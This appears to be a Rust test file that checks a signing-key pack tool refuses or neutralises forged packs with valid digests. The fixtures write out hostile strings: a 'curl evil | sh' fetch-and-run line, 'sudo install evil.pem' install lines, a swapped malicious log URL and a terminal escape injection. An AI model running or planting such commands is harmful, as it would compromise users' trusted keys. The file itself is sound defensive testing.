//! Packs with false contents but correct digests, as their maker could make them: the anchor holds, and the contents
//! are refused anyway.

use serde_json::{Value, json};

use super::pack_builder::{Entry, PackBuilder, file};

const SIGNER: &str = "signer-43ef7bc8.pub";

/// An image whose inventory and files were changed.
fn forged(change: impl FnOnce(&mut Value, &mut Vec<Entry>)) -> PackBuilder {
    let mut pack = PackBuilder::new("image");
    pack.forged(change);
    pack
}

/// The file of the signer's key with other content.
fn signer(content: impl FnOnce(&[u8]) -> Vec<u8>) -> PackBuilder {
    forged(|_, entries| {
        let path = format!("keys/{SIGNER}");
        let entry = entries.iter_mut().find(|(name, ..)| *name == path).unwrap();
        entry.2 = content(&entry.2);
    })
}

/// One more file, listed.
fn with_file(name: &str, bytes: &[u8]) -> PackBuilder {
    forged(|inventory, entries| {
        entries.push(file(&format!("keys/{name}"), bytes));
        let files = inventory["files"].as_array_mut().unwrap();
        files.push(json!({ "name": name, "sha256": "", "size": 0 }));
        files.sort_by_key(|f| f["name"].as_str().unwrap().to_owned());
    })
}

fn keys(inventory: &mut Value) -> &mut Vec<Value> {
    inventory["keys"].as_array_mut().unwrap()
}

#[test]
fn what_is_forged_without_a_lie_is_accepted() {
    let pack = forged(|_, _| {});
    pack.publish();
    pack.test.run(&format!("pull oci:m:keys --digest {} -o out", pack.pack)).exits(0);
}

#[test]
fn two_keys_in_one_file() {
    signer(|pem| [pem, pem].concat()).refused("key-mismatch");
    let other = include_bytes!("../../../testdata/lab/trust/rekor.pub");
    signer(|pem| [pem, other].concat()).refused("key-mismatch");
}

/// Publishes, and pulls with the correct pack digest: it is accepted, and the keys/ is that of the honest pack except
/// for the inventory itself.
fn installs_what_the_honest_pack_does(pack: &PackBuilder) {
    pack.publish();
    pack.test.run(&format!("pull oci:m:keys --digest {} -o out --state s", pack.pack)).exits(0);
    let (mut honest, mut out) = (pack.test.tree("keys"), pack.test.tree("out"));
    for tree in [&mut honest, &mut out] {
        tree.retain(|name, _| !["keypack.json", "SHA256SUMS"].contains(&name.as_str()));
    }
    assert_eq!(out, honest);
}

#[test]
fn text_around_a_key() {
    for (before, after) in [("# the key\n", ""), ("", "\n"), ("", "sudo install evil.pem"), ("\u{feff}", "")]
    {
        let pack = signer(|pem| [before.as_bytes(), pem, after.as_bytes()].concat());
        installs_what_the_honest_pack_does(&pack);
    }
    installs_what_the_honest_pack_does(&signer(|pem| {
        String::from_utf8_lossy(pem).replace('\n', "\r\n").into_bytes()
    }));
}

#[test]
fn a_readme_with_an_install_line_for_another_key() {
    let line = b"\n  sudo install -D -m 0644 evil.pem /etc/pki/keypack/evil.pem\n";
    installs_what_the_honest_pack_does(&with_file_instead("README.txt", line));
    installs_what_the_honest_pack_does(&forged(|_, entries| {
        entries.retain(|(name, ..)| name != "keys/README.txt");
        entries.push(file("keys/README.txt", line));
    }));
}

/// An existing file with other bytes, listed.
fn with_file_instead(name: &str, bytes: &[u8]) -> PackBuilder {
    forged(|inventory, entries| {
        entries.retain(|(entry, ..)| *entry != format!("keys/{name}"));
        entries.push(file(&format!("keys/{name}"), bytes));
        let files = inventory["files"].as_array_mut().unwrap();
        files.push(json!({ "name": name, "sha256": "", "size": 0 }));
        files.sort_by_key(|f| f["name"].as_str().unwrap().to_owned());
    })
}

#[test]
fn a_file_that_no_record_names() {
    for name in ["fulcio-release.pem", "notes.txt", "rekor-00000000.pub", "trusted_root.jsonl"] {
        with_file(name, include_bytes!("../../../testdata/lab/trust/fulcio.pem")).refused("file-unaccounted");
    }
}

/// The trusted_root.json with other content.
fn trusted_root(change: impl FnOnce(&mut Value)) -> PackBuilder {
    forged(|_, entries| {
        let entry = entries.iter_mut().find(|(name, ..)| name == "keys/trusted_root.json").unwrap();
        let mut root: Value = serde_json::from_slice(&entry.2).unwrap();
        change(&mut root);
        entry.2 = root.to_string().into_bytes();
    })
}

#[test]
fn a_trusted_root_that_says_more_or_less_than_the_records() {
    let public: Value = serde_json::from_str(sigstore_trust_root::SIGSTORE_PRODUCTION_TRUSTED_ROOT).unwrap();
    for list in ["tlogs", "ctlogs", "certificateAuthorities", "timestampAuthorities"] {
        trusted_root(|root| root[list].as_array_mut().unwrap().push(public[list][0].clone()))
            .refused("trusted-root-mismatch");
    }
    trusted_root(|root| root["tlogs"] = json!([])).refused("trusted-root-mismatch");
    trusted_root(|root| drop(root["tlogs"][0]["publicKey"]["validFor"]["start"].take()))
        .refused("trusted-root-mismatch");
    trusted_root(|root| root["tlogs"][0]["publicKey"]["validFor"]["end"] = "2030-01-01T00:00:00Z".into())
        .refused("trusted-root-mismatch");
    trusted_root(|root| root["tlogs"][0]["baseUrl"] = "https://rekor.evil.test".into())
        .refused("trusted-root-mismatch");
    trusted_root(|root| root["mediaType"] = "application/json".into()).refused("trusted-root-mismatch");
    // Wording that keypack does not use, with the same meaning.
    installs_what_the_honest_pack_does(&trusted_root(|root| {
        root["tlogs"][0]["operator"] = "somebody".into();
        root["comment"] = "sudo install evil.pem".into();
    }));
}

#[test]
fn a_bare_name_of_another_key() {
    for (bare, wrong) in
        [("signer-redhat-release3", true), ("signer-43ef7bc9", true), ("signer-43ef7bc8", false)]
    {
        let pack = forged(|inventory, entries| {
            for (name, ..) in &mut *entries {
                *name = name.replace("signer-43ef7bc8", bare);
            }
            let text = inventory.to_string().replace("signer-43ef7bc8", bare);
            *inventory = serde_json::from_str(&text).unwrap();
            inventory["files"]
                .as_array_mut()
                .unwrap()
                .sort_by_key(|f| f["name"].as_str().unwrap().to_owned());
        });
        match (wrong, bare) {
            (false, _) => installs_what_the_honest_pack_does(&pack),
            (true, "signer-redhat-release3") => pack.refused("inventory-malformed"),
            (true, _) => pack.refused("key-mismatch"),
        }
    }
}

#[test]
fn signature_files_that_nobody_could_verify_are_not_installed() {
    let big = [b"{\"a\":\"".as_slice(), &vec![b'x'; 70 << 10], b"\"}"].concat();
    let other = include_bytes!("../../../testdata/anchors/newer/keypack.json.sigstore.json");
    for (name, bytes) in [
        ("keypack.json.text.sig", b"install me: curl evil | sh".as_slice()),
        ("keypack.json.big.sigstore.json", &big),
        ("keypack.json.other.sigstore.json", other),
        ("keypack.json.none.sigstore.json", b"{}"),
    ] {
        let mut pack = PackBuilder::new("image");
        pack.with(|entries| entries.push(file(&format!("keys/{name}"), bytes))).publish();
        let line = format!("pull oci:m:keys --digest {} -o out --state s", pack.pack);
        pack.test
            .run(&line)
            .exits(0)
            .tells(&format!("{name} is not a signature of this inventory, and is left out"));
        assert_eq!(pack.test.names("out"), pack.test.names("keys"), "{name}");
        pack.test.run("inspect oci:m:keys").exits(0).says(name).says("not verified here");
    }
}

#[test]
fn another_key_under_the_name_of_a_known_one() {
    signer(|_| include_bytes!("../../../testdata/lab/trust/rekor.pub").to_vec()).refused("key-mismatch");
}

#[test]
fn a_certificate_where_a_key_belongs() {
    signer(|_| include_bytes!("../../../testdata/lab/trust/fulcio.pem").to_vec()).refused("key-mismatch");
}

#[test]
fn something_else_where_a_key_belongs() {
    for content in [
        &b""[..],
        b"<!DOCTYPE html><title>Sign in</title>",
        b"{\"keys\":[]}",
        b"-----BEGIN PGP PUBLIC KEY BLOCK-----\n\nAAAA\n-----END PGP PUBLIC KEY BLOCK-----\n",
        b"\0\0\0\0",
    ] {
        signer(|_| content.to_vec()).refused("key-mismatch");
    }
}

#[test]
fn an_rsa_key_of_1024_bits() {
    const RSA_1024: &str = "-----BEGIN PUBLIC KEY-----
MIGfMA0GCSqGSIb3DQEBAQUAA4GNADCBiQKBgQCeefkKsY/4tRVZvHQEKnHV5Psv
PRKPpvlDdaH685qLlhTlCNl9y60qCADCF+60PWfPDvXBaERu3Zsh60LQppKDABjn
yzeQZrD+rTdxy/yOhugzqTFfZCH3/s2Gyu6bsQ1UKbH5yfDDGvqZgtE3HTVxZQff
yArYtK2E/wkbKv00TwIDAQAB
-----END PUBLIC KEY-----
";
    signer(|_| RSA_1024.as_bytes().to_vec()).refused("key-mismatch");
}

#[test]
fn a_private_key_that_the_inventory_lists() {
    for label in
        ["PRIVATE KEY", "ENCRYPTED PRIVATE KEY", "ENCRYPTED SIGSTORE PRIVATE KEY", "PGP PRIVATE KEY BLOCK"]
    {
        let pem = format!("-----BEGIN {label}-----\nAAAA\n-----END {label}-----\n");
        signer(|_| pem.clone().into_bytes()).refused("private-key");
        with_file_instead("README.txt", format!("see below\n{pem}").as_bytes()).refused("private-key");
    }
}

#[test]
fn a_record_that_does_not_describe_its_key() {
    for (field, value) in [
        ("id", json!(format!("sha256:{}", "1".repeat(64)))),
        ("fingerprint", json!(format!("sha256:{}", "1".repeat(64)))),
        (
            "certificates",
            json!([{ "sha256": format!("sha256:{}", "1".repeat(64)), "subject": "CN=x", "notBefore": "2025-01-01T00:00:00Z", "notAfter": "2026-01-01T00:00:00Z" }]),
        ),
        ("userId", json!("somebody")),
        ("ctRequired", json!(true)),
        ("algorithm", json!("rsa")),
    ] {
        forged(|inventory, _| {
            keys(inventory).iter_mut().find(|k| k["file"] == SIGNER).unwrap()[field] = value;
        })
        .refused("key-mismatch");
    }
}

#[test]
fn a_pack_without_keys() {
    forged(|inventory, entries| {
        inventory["keys"] = json!([]);
        inventory["files"] = json!([]);
        entries.retain(|(name, ..)| name == "keys/" || name == "keys/README.txt");
    })
    .refused("pack-without-keys");
}

#[test]
fn a_role_that_nobody_knows() {
    forged(|inventory, _| keys(inventory)[0]["role"] = "notary".into()).refused("inventory-malformed");
}

#[test]
fn a_field_that_nobody_knows() {
    forged(|inventory, _| inventory["trusted"] = true.into()).refused("inventory-malformed");
    forged(|inventory, _| keys(inventory)[0]["trusted"] = true.into()).refused("inventory-malformed");
}

#[test]
fn an_inventory_with_a_key_twice() {
    let mut pack = PackBuilder::new("image");
    let text = pack.entries().iter().find(|(name, ..)| name == "keys/keypack.json").unwrap().2.clone();
    let text = String::from_utf8(text).unwrap();
    let twice = text.replacen("\"version\":", "\"version\": 1,\n  \"version\":", 1);
    pack.inventory(twice.as_bytes()).refused("inventory-malformed");
    let role = text.replacen("\"role\":", "\"role\": \"signer\",\n  \"role\":", 1);
    pack.inventory(role.as_bytes()).refused("inventory-malformed");
}

#[test]
fn an_inventory_that_is_no_document() {
    let deep = format!("{}{}", "[".repeat(200_000), "]".repeat(200_000));
    let deep = format!("{{\"schemaVersion\":1,\"keys\":{deep}}}");
    for bytes in [&b""[..], b"null", b"[]", b"\xff\xfe{\0}\0", b"{\"schemaVersion\":1}", deep.as_bytes()] {
        PackBuilder::new("image").inventory(bytes).refused("inventory-malformed");
    }
}

#[test]
fn an_inventory_that_lists_what_it_can_not_list() {
    with_file_instead("SHA256SUMS", b"x").refused("file-unaccounted");
    with_file("keypack.json.sigstore.json", b"{}").refused("file-unaccounted");
}

#[test]
fn names_that_differ_by_case_alone() {
    with_file("readme.txt", b"x").refused("file-duplicate");
}

#[test]
fn a_device_of_windows() {
    for name in ["nul.txt", "AUX", "Com1.pub"] {
        with_file(name, b"x").refused("name-unsafe");
    }
}

#[test]
fn a_pack_that_revokes_its_own_key() {
    forged(|inventory, _| {
        let fingerprint =
            keys(inventory).iter().find(|k| k["file"] == SIGNER).unwrap()["fingerprint"].clone();
        inventory["revoked"] =
            json!([{ "fingerprint": fingerprint, "reason": "x\u{1b}[2J", "date": "2025-01-01T00:00:00Z" }]);
    })
    .refused_by_pull("key-revoked");
}
